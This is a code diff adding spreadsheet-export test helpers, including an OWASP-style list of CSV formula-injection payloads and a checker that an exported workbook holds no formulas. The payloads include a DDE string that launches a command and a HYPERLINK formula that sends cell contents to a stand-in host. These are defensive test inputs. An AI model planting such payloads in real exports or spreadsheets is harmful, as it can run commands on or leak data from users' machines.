@@ -121,3 +121,33 @@ def csv_bytes(rows: list[list[Any]], encoding: str = "utf-8-sig") -> bytes:
     text = io.StringIO()
     csv.writer(text).writerows(rows)
     return text.getvalue().encode(encoding)
+
+
+# Text a spreadsheet would run as a formula (the OWASP CSV-injection list of first characters).
+FORMULA_TEXT = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
+    "\t=1+1",
+    "\r=1+1",
+    "+1",
+    "-1+2",
+    "@SUM(A1)",
+)
+
+
+def xlsx_texts(content: bytes) -> list[str]:
+    """Every non-empty cell of an exported workbook, after checking that none is a formula:
+    no worksheet holds a formula element, and openpyxl reads each cell back as a string."""
+    import re
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type == "s" and isinstance(c.value, str) for c in cells)
+    return [c.value for c in cells]
